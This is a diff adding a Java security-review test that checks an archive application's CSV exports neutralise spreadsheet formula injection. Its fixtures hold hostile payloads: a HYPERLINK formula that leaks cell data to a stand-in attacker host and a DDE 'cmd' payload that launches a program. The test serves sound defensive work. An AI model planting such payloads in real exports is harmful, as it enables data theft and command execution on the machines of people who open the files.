@@ -150,4 +150,42 @@ class SecurityReviewTest {
         assertEquals(401, old.get("/api/session").statusCode());
         assertEquals(200, client().signedIn("reborn", "second-password-2").get("/api/audit").statusCode());
     }
+
+    // ---- Medium 3: formulas in CSV exports --------------------------------------------------
+
+    static final String FORMULA_UNIT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")";
+    static final String CMD_UNIT = "+cmd|' /C calc'!A0";
+
+    @Test
+    void finding03_noCsvExportHoldsAFormulaCell() throws Exception {
+        byte[] text = sample("yunxi-dw-2022.txt");
+        byte[] copy = java.util.Arrays.copyOf(text, text.length + 1);
+        copy[text.length] = '\n';
+        app.archive().importFile("a.txt", text, new ImportMetadata(FORMULA_UNIT, 2022, "@SUM(1+1)"));
+        app.archive().importFile("b.txt", copy, new ImportMetadata(CMD_UNIT, 2023, "-2+3"));
+        ApiClient admin = client().signedIn("zhang", ADMIN_PW);
+        List<String> paths = List.of("/api/copies/export?format=csv",
+                "/api/repeats/common/export?format=csv",
+                "/api/repeats/export?format=csv&unit=" + ApiClient.enc(FORMULA_UNIT),
+                "/api/compare/export?format=csv&unit=" + ApiClient.enc(FORMULA_UNIT) + "&from=2022&to=2022");
+        int cellsWithUnit = 0;
+        for (String path : paths) {
+            HttpResponse<byte[]> r = admin.get(path);
+            if (r.statusCode() != 200) {
+                continue; // (a unit of one year has no comparison; the others carry the cells)
+            }
+            String csv = ApiClient.text(r).replace("\uFEFF", "");
+            for (org.apache.commons.csv.CSVRecord rec : org.apache.commons.csv.CSVFormat.EXCEL.parse(new java.io.StringReader(csv))) {
+                for (String cell : rec) {
+                    assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
+                            && !cell.matches("-?\\d+(\\.\\d+)?([eE]-?\\d+)?"), path + ": a live formula cell " + cell);
+                    if (cell.contains("HYPERLINK") || cell.contains("cmd|")) {
+                        cellsWithUnit++;
+                        assertTrue(cell.startsWith("'"), cell);
+                    }
+                }
+            }
+        }
+        assertTrue(cellsWithUnit >= 2, "the hostile units were exported (as text): " + cellsWithUnit);
+    }
 }
